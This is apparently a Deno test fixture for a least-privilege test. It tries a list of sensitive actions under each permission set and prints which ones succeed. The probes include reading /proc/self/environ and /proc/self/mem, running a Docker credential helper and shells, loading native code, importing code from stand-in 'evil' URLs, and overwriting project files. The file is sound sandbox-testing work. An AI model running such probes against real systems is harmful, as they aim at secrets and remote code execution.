/**
 * Tries what a program could do with the permissions that it was started with, and prints what it could: run by
 * `tests/tasks/least_privilege_test.ts` under each set of permissions, in place of the program.
 *
 * @module
 */
const { project, outside, elsewhere, port, socket, parent, variables, code } = JSON.parse(Deno.args[0]);

/** Refusals of the runtime; any other failure comes after it has said yes. */
const REFUSALS = [
  /^Requires .* access/,
  /^Access to .* is denied/,
  /--no-(remote|npm) is specified/,
  /^The lockfile is out of date/,
];

const could = [];

async function attempt(name, act) {
  try {
    await act();
    could.push(name);
  } catch (error) {
    if (error instanceof Deno.errors.NotCapable) return;
    if (!REFUSALS.some((refusal) => refusal.test(error.message))) could.push(name);
  }
}

function orNotFound(act) {
  try {
    return act();
  } catch (error) {
    if (error instanceof Deno.errors.NotFound) throw new Deno.errors.NotCapable(error.message);
    throw error;
  }
}

function mayKnow(name) {
  if (Deno.env.get(name) === undefined) throw new Deno.errors.NotCapable();
}
for (const name of variables) await attempt(`know ${name}`, () => mayKnow(name));
await attempt("know variables by listing them", () => {
  const listed = Object.keys(Deno.env.toObject()).filter((name) => variables.includes(name));
  if (listed.every((name) => could.includes(`know ${name}`))) throw new Deno.errors.NotCapable();
});

await attempt("read the project", () => Deno.readTextFileSync(`${project}/lib/code`));
await attempt("read other files", () => orNotFound(() => Deno.readTextFileSync(`${outside}/file`)));
await attempt("read the environment as a file", () => Deno.readTextFileSync("/proc/self/environ"));
await attempt("read memory", () => Deno.openSync("/proc/self/mem").close());

/** A program has to run, and to say so. */
function spawn(program, ...args) {
  const { stdout } = new Deno.Command(program, { args, env: {}, stdin: "null" }).outputSync();
  if (!new TextDecoder().decode(stdout).includes("ran")) throw new Deno.errors.NotCapable("it did nothing");
}
await attempt("run a credential helper", () => spawn("docker-credential-pass", "get"));
await attempt("run another program of its name", () => spawn(`${elsewhere}/docker-credential-pass`, "get"));
await attempt("run a shell", () => spawn("sh", "-c", "echo ran"));
await attempt("run a shell by its path", () => spawn("/bin/sh", "-c", "echo ran"));
await attempt("run npm", () => spawn("npm"));
await attempt("run deno", () => spawn("deno", "eval", "console.log('ran')"));
await attempt("run deno by its path", () => spawn(Deno.execPath(), "eval", "console.log('ran')"));
await attempt("send signals", () => Deno.kill(parent, "SIGCONT"));

await attempt("load the addon", () => Deno.dlopen(`${project}/.tagseal-pkcs11/module.so`, {}));
await attempt("load other native code", () => Deno.dlopen(`${outside}/module.so`, {}));
await attempt("load native code through Node's modules", () => {
  process.dlopen({ exports: {} }, `${outside}/module.so`);
});

await attempt("reach loopback", async () => (await Deno.connect({ hostname: "127.0.0.1", port })).close());
await attempt("reach other hosts", async () => (await Deno.connect({ hostname: "127.0.0.2", port })).close());
await attempt("fetch from other hosts", async () => await (await fetch(`http://127.0.0.2:${port}/`)).body?.cancel());
await attempt("reach a service's socket", async () => {
  (await Deno.connect({ transport: "unix", path: socket })).close();
});
await attempt("be reached from elsewhere", () => Deno.listen({ hostname: "0.0.0.0", port: 0 }).close());

// Not written down as imports: those would be looked up before anything runs.
for (
  const [from, address] of [
    ["the web", "https://deno.land/x/evil.js"],
    ["GitHub", "https://raw.githubusercontent.com/evil/evil/main/evil.js"],
    ["loopback", `http://127.0.0.1:${port}/evil.js`],
    ["JSR", "jsr:@evil/evil@1"],
    ["all of npm", "npm:evil@1.0.0"],
  ]
) await attempt(`import from ${from}`, () => import(address));

for (const ask of ["hostname", "osRelease", "osUptime", "loadavg", "networkInterfaces", "systemMemoryInfo", "gid"]) {
  await attempt("know the machine", Deno[ask]);
}
await attempt("know the user's number", Deno.uid);

for (const name of ["run", "ffi", "env", "net", "read", "write", "sys", "import"]) {
  const before = Deno.permissions.querySync({ name }).state;
  const { state } = Deno.permissions.requestSync({ name });
  if (state === "granted" && before !== "granted") could.push("get more by asking");
}

// At last, since it ruins what others read.
for (const path of code) await attempt(`write code: ${path}`, () => Deno.writeTextFileSync(`${project}/${path}`, "x"));
await attempt("write code: removed", () => Deno.removeSync(`${project}/lib/other`));
await attempt("write code: moved", () => Deno.renameSync(`${project}/lib`, `${project}/moved`));
await attempt("write code: linked", () => Deno.symlinkSync(`${project}/lib`, `${project}/dist/link`));
await attempt("write what bundle makes", () => Deno.writeTextFileSync(`${project}/dist/made`, "x"));
await attempt("write the demo's folder", () => Deno.writeTextFileSync(`${project}/.tagseal-demo/x`, "x"));
await attempt("write the addon's folder", () => Deno.writeTextFileSync(`${project}/.tagseal-pkcs11/x`, "x"));
await attempt("write other files", () => Deno.writeTextFileSync(`${outside}/new`, "x"));
await attempt("link other files", () => Deno.symlinkSync(`${outside}/file`, `${outside}/link`));

Deno.stdout.writeSync(new TextEncoder().encode(JSON.stringify([...new Set(could)])));
Deno.exit(0);
